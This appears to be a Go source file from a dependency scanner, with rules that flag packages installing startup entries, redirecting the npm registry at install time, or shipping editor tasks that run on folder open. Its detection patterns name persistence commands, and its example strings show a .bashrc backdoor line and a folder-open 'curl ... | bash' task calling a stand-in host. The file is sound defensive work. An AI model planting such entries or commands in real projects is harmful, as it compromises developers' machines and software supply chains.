// Package persist holds rules about persistence mechanisms.
package persist

import (
	"context"
	"fmt"
	"regexp"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// StartupEntry flags writes to autostart locations.
type StartupEntry struct{}

// Meta implements analyze.Rule.
func (StartupEntry) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "persist/startup-entry", Version: 4, Title: "Installs itself to run at startup",
		Help: "Code writes to an autostart location (crontab, systemd units, LaunchAgents, XDG autostart entries, rc.local and init scripts, " +
			"the Windows Startup folder or Run key, shell rc files, " +
			"CI workflow files, git hooks) or runs crontab/schtasks/reg add/launchctl. A library never needs to survive a reboot. Critical when what it " +
			"plants, next to the location, is a download-and-execute command (curl | sh, PowerShell iex). Git hooks are medium (hook " +
			"installers write them on purpose), and so is git config core.hooksPath at install time. Install-time code that writes " +
			".npmrc, .yarnrc or .gitconfig is high; critical when it sets a registry that is not one of yours, which serves every later " +
			"install from there.",
		Remediation:     "Remove the package and check the named location for planted entries.",
		Example:         `fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "node ~/.cache/x.js &")`,
		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigPersist, Needs: analyze.NeedCode,
	}
}

var persistPath = regexp.MustCompile(`(?i)(/etc/cron|/var/spool/cron|\.config/systemd|/etc/systemd/system|/library/launch(agents|daemons)|start menu\\programs\\startup|\\currentversion\\run\b|\.bashrc|\.zshrc|\.bash_profile|\.profile$|\.github/workflows|\.config/autostart|/etc/rc\.local|/etc/profile\.d/|/etc/init\.d/|\.git[/\\]hooks([/\\]|$))`)

// persistHints holds a literal piece of every persistPath alternative.
var persistHints = rulekit.NewHints("/etc/cron", "/var/spool/cron", ".config/systemd", "/etc/systemd/system", "/library/launch", `start menu\programs\startup`, `\currentversion\run`, ".bashrc", ".zshrc", ".bash_profile", ".profile", ".github/workflows",
	".config/autostart", "/etc/rc.local", "/etc/profile.d/", "/etc/init.d/", ".git/hooks", `.git\hooks`)

// pmConfigPath matches the package manager and git configuration files a
// package could rewrite to redirect later installs or hook every commit.
var pmConfigPath = regexp.MustCompile(`(?i)(^|[/\\~])\.(npmrc|yarnrc(\.yml)?|gitconfig)$`)

// registryLine matches a registry set in .npmrc or .yarnrc.yml text.
var registryLine = regexp.MustCompile(`(?i)(^|\n|\s)(@[\w.-]+:)?registry\s*=\s*(https?://[^\s'"]+)|npmRegistryServer:\s*['"]?(https?://[^\s'"]+)`)

var persistCmd = regexp.MustCompile(`(?i)(crontab\s|schtasks\s+/create|reg\s+add\s+\S*\\run\b|launchctl\s+(load|bootstrap)|systemctl\s+(--user\s+)?enable)`)

// hooksPathCmd matches git told to take its hooks from another directory.
var hooksPathCmd = regexp.MustCompile(`(?i)\bgit\s+config\s+(--global\s+|--system\s+)?core\.hookspath\b`)

// fileWrites are the calls that write a file's content.
var fileWrites = map[string]bool{"writeFile": true, "writeFileSync": true, "appendFile": true, "appendFileSync": true,
	"createWriteStream": true, "copyFile": true, "copyFileSync": true}

// Check implements analyze.Rule.
func (StartupEntry) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		writes := false
		for _, c := range f.Facts.Calls {
			writes = writes || fileWrites[rulekit.Last(c.Callee)]
			if rulekit.IsSpawn(c) {
				if m := persistCmd.FindString(rulekit.SpawnCommand(c)); m != "" {
					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: "registers a startup task: " + m, Evidence: rulekit.Ev(c.Snippet.String(), rulekit.SpawnCommand(c), "")})
				}
				// hook managers do this when the developer runs them; a
				// dependency's install script has no business to
				if m := hooksPathCmd.FindString(rulekit.SpawnCommand(c)); m != "" && f.Role == analyze.RoleInstall {
					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityMedium,
						Message: "points git's hooks elsewhere at install time: " + m, Evidence: rulekit.Ev(c.Snippet.String(), rulekit.SpawnCommand(c), "")})
				}
			}
		}
		if !writes {
			continue
		}
		if f.Role == analyze.RoleInstall {
			pmConfig(t, f, r)
		}
		home := false
		for _, c := range f.Facts.Calls {
			if c.Callee == "os.homedir" {
				home = true
			}
		}
		for _, e := range f.Facts.Env {
			if e.Name == "HOME" || e.Name == "USERPROFILE" || e.Name == "APPDATA" {
				home = true
			}
		}
		for _, s := range f.Facts.Strings {
			if len(s.Value) > 1024 {
				continue
			}
			if !persistHints.In(s.Value) {
				continue
			}
			m := persistPath.FindString(s.Value)
			if m == "" {
				continue
			}
			// a bare ".profile" is a word; it names a file only as a path
			// or next to the home directory
			if !strings.ContainsAny(s.Value, "/\\~") && !home {
				continue
			}
			sev := finding.SeverityHigh
			if f.Facts.Size > 512<<10 {
				sev = finding.SeverityMedium
			}
			if strings.Contains(strings.ToLower(m), ".git") && strings.Contains(strings.ToLower(m), "hooks") {
				// git hook installers (yorkie, simple-git-hooks) do this on
				// purpose; what the hook runs decides
				sev = finding.SeverityMedium
			}
			if strings.Contains(strings.ToLower(m), ".github/workflows") && !pushes(f.Facts) {
				// scaffolding CLIs write workflow files into the project;
				// worms push them to other repositories
				sev = finding.SeverityLow
			}
			if cmd := plantedCommand(f.Facts, s.Pos); cmd != nil && f.Facts.Size <= 512<<10 {
				r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
					Message:  fmt.Sprintf("plants a download-and-execute command in autostart location %q", m),
					Evidence: append(rulekit.Ev(s.Snippet.String(), s.Value, ""), rulekit.Ev(cmd.Snippet.String(), cmd.Value, rulekit.ShellDanger(cmd.Value))...)})
				break
			}
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Message: fmt.Sprintf("writes files and names autostart location %q", m), Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")})
			break
		}
	}
	return nil
}

// pmConfig reports install-time code that writes the package manager's or
// git's configuration: .npmrc, .yarnrc(.yml), .gitconfig. Pointing the
// registry elsewhere there serves every later install from the attacker.
func pmConfig(t *analyze.Target, f rulekit.File, r analyze.Reporter) {
	var named *jsast.Str
	registry := ""
	for i := range f.Facts.Strings {
		s := &f.Facts.Strings[i]
		if len(s.Value) > 4096 {
			continue
		}
		if named == nil && pmConfigPath.MatchString(s.Value) {
			named = s
		}
		if registry == "" {
			if m := registryLine.FindStringSubmatch(s.Value); m != nil {
				u := m[3] + m[4]
				if h := rulekit.Host(u); h != "" && !t.IsRegistryHost(h) && !rulekit.LocalHost(h) {
					registry = u
				}
			}
		}
	}
	if named == nil {
		return
	}
	sev, msg := finding.SeverityHigh, fmt.Sprintf("writes files and names %q at install time: the configuration of later installs", named.Value)
	if registry != "" {
		sev, msg = finding.SeverityCritical, fmt.Sprintf("points the package registry at %s in %q at install time", rulekit.Host(registry), named.Value)
	}
	r.Report(analyze.Instance{File: f.Name, Line: named.Pos.Line, Severity: sev, Confidence: finding.ConfidenceMedium, Message: msg,
		Evidence: rulekit.Ev(named.Snippet.String(), named.Value, registry)})
}

// plantedCommand returns a download-and-execute command string near p
// (what gets written to the startup location), or nil.
func plantedCommand(f *jsast.Facts, p jsast.Pos) *jsast.Str {
	for i := range f.Strings {
		s := &f.Strings[i]
		if len(s.Value) <= 4096 && rulekit.Near(s.Pos, []jsast.Pos{p}) && rulekit.ShellDanger(s.Value) != "" {
			return s
		}
	}
	return nil
}

// IDEAutorun flags editor tasks that run on folder open.
type IDEAutorun struct{}

// Meta implements analyze.Rule.
func (IDEAutorun) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "persist/ide-autorun", Version: 1, Title: "Runs a command when the folder is opened in an editor",
		Help: "The package or project ships .vscode/tasks.json with \"runOn\": \"folderOpen\": opening the folder runs the task. Fake job-interview " +
			"projects use it to run curl | bash the moment the candidate opens the code.",
		Remediation:     "Do not open the folder in a trusting editor; delete the task.",
		Example:         `{"label": "init", "command": "curl -s https://x.example/s | bash", "runOptions": {"runOn": "folderOpen"}}`,
		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigPersist, Needs: analyze.NeedFiles,
	}
}

// Check implements analyze.Rule.
func (IDEAutorun) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, name := range t.Files() {
		if !strings.HasSuffix(name, ".vscode/tasks.json") && name != ".vscode/tasks.json" {
			continue
		}
		b, err := t.Read(name)
		if err != nil || !strings.Contains(string(b), "folderOpen") {
			continue
		}
		sev := finding.SeverityHigh
		if rulekit.ShellDanger(string(b)) != "" || strings.Contains(string(b), "curl") || strings.Contains(string(b), "wget") || strings.Contains(string(b), "powershell") {
			sev = finding.SeverityCritical
		}
		r.Report(analyze.Instance{File: name, Severity: sev, Confidence: finding.ConfidenceHigh, Message: "editor task runs automatically on folder open"})
	}
	return nil
}

// pushes reports code that sends commits or files to a remote: git push,
// the GitHub contents/repos API, or a GitHub token.
func pushes(f *jsast.Facts) bool {
	for _, e := range f.Env {
		if e.Name == "GITHUB_TOKEN" || e.Name == "GH_TOKEN" {
			return true
		}
	}
	for _, s := range f.Strings {
		if len(s.Value) < 2048 && (strings.Contains(s.Value, "git push") || strings.Contains(s.Value, "api.github.com")) {
			return true
		}
	}
	return false
}
